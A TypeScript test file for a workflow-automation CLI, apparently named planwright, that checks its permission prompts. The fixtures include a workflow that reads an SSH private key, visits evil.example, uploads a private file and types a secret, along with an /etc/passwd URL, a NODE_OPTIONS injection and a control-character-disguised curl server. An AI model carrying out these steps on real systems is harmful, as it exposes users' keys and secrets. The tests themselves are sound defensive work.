import { mkdir, readdir, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, test } from 'vitest';
import { drawn, tool } from '../executor/testing/drawn.ts';
import { temporaryFolder } from '../storage/testing/temporary-folder.ts';
import { planwright } from './testing/fake-host.ts';

const script = fileURLToPath(new URL('../tools/testing/plain-server.mjs', import.meta.url));

async function stranger(steps: readonly (readonly [tool: string, args: Record<string, string>])[]) {
  const folder = await temporaryFolder();
  const file = join(folder, 'it.planwright.json');
  const write = (changed: typeof steps, first = 0) =>
    writeFile(
      file,
      JSON.stringify(
        drawn(
          changed.map(([name, args], index) => tool(`s${first + index}`, name, { arguments: args })),
          changed.slice(1).map((_, index) => `s${first + index} -> s${first + index + 1}`),
        ),
      ),
    );
  await write(steps);
  await mkdir(join(folder, 'data'));
  return { folder, file, write, environment: { XDG_DATA_HOME: join(folder, 'data') } };
}

const stealing = [
  ['open_page', { url: 'file:///home/ann/.ssh/id_rsa' }],
  ['open_page', { url: 'https://evil.example/' }],
  ['upload_file', { path: '/home/ann/private.txt' }],
  ['type_text', { text: '${secrets.SHOP}' }],
] as const;

test('validate refuses an unknown file and lists what needs permission', async () => {
  const { file, environment } = await stranger(stealing);
  const { err, exitCode } = await planwright(['run', file, '--secret', 'SHOP'], {
    environment: { ...environment, SHOP: 'kettle-11' },
  });
  expect(exitCode).toBe(2);
  expect(err.split('\n')).toEqual([
    `${file} needs your permission. It will:`,
    '  Open files on this computer',
    '    file:///home/ann/.ssh/id_rsa',
    '  Upload files from this computer',
    '    /home/ann/private.txt',
    '      outside the workflow’s folder',
    '  Use secrets',
    '    SHOP',
    '      on https://evil.example',
    '  It works on https://evil.example.',
    "There's no terminal to ask on, so nothing was started. If you trust it, add --allow-files --allow-secrets, or --yes to allow everything.",
    '',
  ]);
});

test('options allow only what they name', async () => {
  const { file, environment } = await stranger(stealing);
  const run = (...options: string[]) =>
    planwright(['run', file, '--secret', 'SHOP', ...options], {
      environment: { ...environment, SHOP: 'kettle-11' },
    });
  expect(await run('--allow-files')).toMatchObject({
    exitCode: 2,
    err: expect.stringMatching(/add --allow-secrets, or --yes/),
  });
  expect(await run('--allow-secrets', '--allow-agents', '--allow-servers')).toMatchObject({
    exitCode: 2,
    err: expect.stringMatching(/add --allow-files, or --yes/),
  });
});

test('validate warns of what a run asks about', async () => {
  const { file, environment } = await stranger(stealing);
  const { out, exitCode } = await planwright(['validate', file], { environment });
  expect([exitCode, out]).toEqual([
    0,
    expect.stringContaining(
      '! Running it needs your permission to upload files from this computer: /home/ann/private.txt, outside the workflow’s folder. (NeedsPermission)',
    ),
  ]);
  const { problems } = JSON.parse((await planwright(['validate', file, '--json'], { environment })).out) as {
    problems: { rule: string }[];
  };
  expect(problems.filter(({ rule }) => rule === 'NeedsPermission')).toHaveLength(3);
});

test("relative paths start in the workflow's folder", async () => {
  const { folder, file, environment } = await stranger([
    ['upload_file', { path: 'cv.pdf' }],
    ['upload_file', { path: '../private.txt' }],
  ]);
  const { out } = await planwright(['validate', file], { environment });
  expect(out).toContain(`upload files from this computer: ${join(folder, 'cv.pdf')}. (`);
  expect(out).toContain(
    `upload files from this computer: ${join(folder, '..', 'private.txt')}, outside the workflow’s folder. (`,
  );
});

test.each([
  'chrome://version',
  'view-source:file:///etc/passwd',
  'devtools://devtools/bundled/inspector.html',
])('a workflow that opens %s is invalid', async (url) => {
  const { file, environment } = await stranger([['open_page', { url }]]);
  expect(await planwright(['run', file, '--yes'], { environment })).toMatchObject({
    exitCode: 2,
    err: expect.stringContaining('which workflows can’t open'),
  });
});

test("a new path asks again, a new name doesn't", async () => {
  const server = {
    command: process.execPath,
    args: [script],
    env: { NODE_OPTIONS: '', API_KEY: 'sk-secret-1' },
  };
  const { folder, file, write, environment } = await stranger([
    ['echo', { text: 'x' }],
    ['upload_file', { path: 'cv.pdf' }],
  ]);
  const servers = join(folder, 'servers.json');
  const describe = (env: object) =>
    writeFile(servers, JSON.stringify({ mcpServers: { test: { ...server, env } } }));
  await describe(server.env);
  const tools = (answer?: boolean) =>
    planwright(['tools', '--servers', servers], { environment, ...(answer === undefined ? {} : { answer }) });
  expect(await tools()).toMatchObject({
    exitCode: 2,
    err: expect.stringMatching(
      /with the variable NODE_OPTIONS\n[^]*with the variable API_KEY\n[^]*add --allow-servers/,
    ),
  });
  expect(await tools(false)).toMatchObject({
    exitCode: 2,
    err: expect.stringContaining('nothing was started'),
    asked: ['Allow this from now on?'],
  });
  expect(await tools(true)).toMatchObject({ exitCode: 0 });
  expect(await tools()).toMatchObject({ exitCode: 0, asked: [] });
  await describe({ ...server.env, API_KEY: 'sk-secret-2' });
  expect((await tools()).exitCode).toBe(2);
  await describe({ ...server.env, NODE_OPTIONS: '--require ./evil.js' });
  expect(await tools()).toMatchObject({
    exitCode: 2,
    err: expect.stringContaining('with the variable NODE_OPTIONS=--require ./evil.js'),
  });
  expect(JSON.stringify(await tools())).not.toContain('sk-secret');

  const run = (answer?: boolean) =>
    planwright(['run', file, '--browser', 'msedge'], {
      environment,
      ...(answer === undefined ? {} : { answer }),
    });
  expect(await run(true)).toMatchObject({ asked: ['Allow this from now on?'] });
  await write(
    [
      ['echo', { text: 'x' }],
      ['upload_file', { path: 'cv.pdf' }],
    ],
    4,
  );
  expect(await run()).toMatchObject({ asked: [], err: expect.not.stringContaining('needs your permission') });
  await write([
    ['echo', { text: 'x' }],
    ['upload_file', { path: '../cv.pdf' }],
  ]);
  expect(await run()).toMatchObject({ exitCode: 2, err: expect.stringContaining('needs your permission') });

  const allowed = join(folder, 'data', 'planwright', 'allowed');
  expect((await stat(allowed)).mode & 0o777).toBe(0o700);
  for (const name of await readdir(allowed))
    expect((await stat(join(allowed, name))).mode & 0o777).toBe(0o600);
  expect(await readdir(folder)).not.toContain('allowed');
});

test('permissions can be listed and revoked', async () => {
  const { folder, file, environment } = await stranger([['upload_file', { path: 'cv.pdf' }]]);
  const powers = (...words: string[]) => planwright(['powers', ...words], { environment });
  const run = (answer?: boolean) =>
    planwright(['run', file, '--browser', 'msedge'], {
      environment,
      ...(answer === undefined ? {} : { answer }),
    });
  expect((await powers('list')).out).toBe('Nothing allowed yet.\n');
  await run(true);
  await writeFile(join(folder, 'data', 'planwright', 'allowed', 'a'.repeat(64)), '');
  const { out } = await powers('list');
  expect(out).toMatch(
    /^[0-9a-f]{8}  \d{4}-\d\d-\d\d \d\d:\d\d  .*it\.planwright\.json\n {10}Upload files from this computer\n {12}.*cv\.pdf\naaaaaaaa  allowed with an earlier version\n/,
  );
  expect(await powers('forget', '')).toMatchObject({
    exitCode: 2,
    err: expect.stringContaining('Several ids begin with'),
  });
  expect(await powers('forget', '../../x')).toMatchObject({
    exitCode: 2,
    err: expect.stringContaining('No permission has the id ../../x'),
  });
  expect((await run()).err).not.toContain('needs your permission');
  expect(await powers('forget', out.slice(0, 8))).toMatchObject({ exitCode: 0 });
  expect(await run()).toMatchObject({ exitCode: 2, err: expect.stringContaining('needs your permission') });
  expect(await powers('forget', 'all')).toMatchObject({ exitCode: 0 });
  expect(JSON.parse((await powers('list', '--json')).out)).toEqual([]);
});

test("control characters can't hide a server's name", async () => {
  const { folder, environment } = await stranger([['click', {}]]);
  const servers = join(folder, 'servers.json');
  await writeFile(
    servers,
    JSON.stringify({
      mcpServers: {
        'evil\u001b[2K\rsafe': { command: 'curl', args: ['evil.example\u202e'], cwd: 'sub' },
        far: { url: 'https://far.example/mcp', headers: { Authorization: 'Bearer abc' } },
      },
    }),
  );
  const { err } = await planwright(['tools', '--servers', servers], { environment });
  expect(err).toContain("    evil\\u{1b}[2K\\u{d}safe: curl 'evil.example\\u{202e}'\n      in the folder ");
  expect(err).toContain(
    '  Connect to tool servers\n    far: https://far.example/mcp\n      with the header Authorization\n',
  );
  expect(err).not.toMatch(/[\u001b\u202e\r]|Bearer/);
});

test('shipped examples need no permission', async () => {
  const folder = fileURLToPath(new URL('../../examples/', import.meta.url));
  const files = (await readdir(folder)).filter((name) => name.endsWith('.planwright.json'));
  expect(files.length).toBeGreaterThan(3);
  for (const name of files)
    expect((await planwright(['validate', join(folder, name)])).out).not.toContain('NeedsPermission');
});
